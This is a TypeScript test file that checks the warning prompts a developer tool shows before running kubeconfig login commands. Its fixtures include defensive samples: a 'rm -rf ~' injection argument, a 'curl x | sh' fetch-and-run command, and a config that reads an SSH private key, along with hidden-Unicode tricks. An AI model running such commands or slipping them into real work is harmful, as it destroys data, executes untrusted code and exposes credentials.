// What a person is shown before a command of a kubeconfig runs.
import { expect, test } from "vitest";
import type { LoginCommand, WorkspaceKubeconfig } from "../../../server/src/lsp/protocol.ts";
import { toKubeconfigPrompt, toLoginPrompt } from "./loginPrompt.ts";

const AWS: LoginCommand = {
  command: "/usr/local/bin/aws",
  args: ["eks", "get-token", "--cluster-name", "prod"],
  env: ["AWS_PROFILE", "AWS_REGION"],
  kubeconfig: "/home/me/.kube/config",
  context: "prod",
  fingerprint: "f",
};

test("the command, who names it and what it is given", () =>
  expect(toLoginPrompt(AWS)).toEqual({
    message: "Run this command to log in to prod?",
    detail: [
      "/usr/local/bin/aws eks get-token --cluster-name prod",
      "Context prod of /home/me/.kube/config names it.",
      "It is given the variables AWS_PROFILE, AWS_REGION.",
      "It runs with your rights, now and whenever the login is renewed. Sallyport: Forget Login Commands takes this back.",
    ].join("\n\n"),
  }));

test("a command that a setting names is told so", () =>
  expect(toLoginPrompt({ ...AWS, setting: "sallyport.cluster.kubectlProxy" }).detail.split("\n\n")[1]).toBe(
    "The setting sallyport.cluster.kubectlProxy has it speak to the cluster, with /home/me/.kube/config and what that has it run.",
  ));

for (const [what, args, line] of [
  ["an argument with spaces is one argument", ["-c", "rm -rf ~; echo"], '/usr/local/bin/aws -c "rm -rf ~; echo"'],
  ["an empty argument is seen", [""], '/usr/local/bin/aws ""'],
  ["lines don't push the rest out of sight", ["a\n\n\nb"], '/usr/local/bin/aws "a\\n\\n\\nb"'],
  ["text that turns its direction is spelled out", ["a\u202eb"], '/usr/local/bin/aws "a\\u202eb"'],
  ["nothing is cut off", ["x".repeat(5000)], `/usr/local/bin/aws ${"x".repeat(5000)}`],
] as const) {
  test(what, () => expect(toLoginPrompt({ ...AWS, args }).detail.split("\n\n")[0]).toBe(line));
}

test("names of contexts, files and variables are shown as they are", () => {
  const { message, detail } = toLoginPrompt({ ...AWS, context: "p\nq", kubeconfig: "/a\u200b", env: ["E\u202e"] });
  expect(message).toBe("Run this command to log in to p\\u000aq?");
  expect(detail).toContain("Context p\\u000aq of /a\\u200b names it.");
  expect(detail).toContain("the variables E\\u202e.");
});

const OWN: WorkspaceKubeconfig = {
  path: "/w/kubeconfig.yaml",
  sha256: "ab",
  servers: ["https://10.0.0.1:6443", "http://proxy:3128"],
  commands: [["sh", "-c", "curl x | sh"]],
  reads: ["/home/me/.ssh/id_rsa"],
};

test("a kubeconfig of the workspace: where it leads, what it runs and what it reads", () =>
  expect(toKubeconfigPrompt(OWN)).toEqual({
    message: "Use this kubeconfig of the workspace?",
    detail: [
      "/w/kubeconfig.yaml",
      "It connects to\nhttps://10.0.0.1:6443\nhttp://proxy:3128",
      'It logs in by running\nsh -c "curl x | sh"',
      "It reads, and may send to these servers,\n/home/me/.ssh/id_rsa",
      "Whoever can write to this folder may have written it. The answer holds for this file as it is now. Sallyport: Forget Login Commands takes it back.",
    ].join("\n\n"),
  }));

test("a kubeconfig without commands and files says nothing of them, and hides no sign", () => {
  const { detail } = toKubeconfigPrompt({
    ...OWN,
    path: "/w/a\u202eb",
    servers: ["https://a\nb"],
    commands: [],
    reads: [],
  });
  expect(detail.split("\n\n").slice(0, 2)).toEqual(["/w/a\\u202eb", "It connects to\nhttps://a\\u000ab"]);
  expect(detail).not.toContain("running");
});
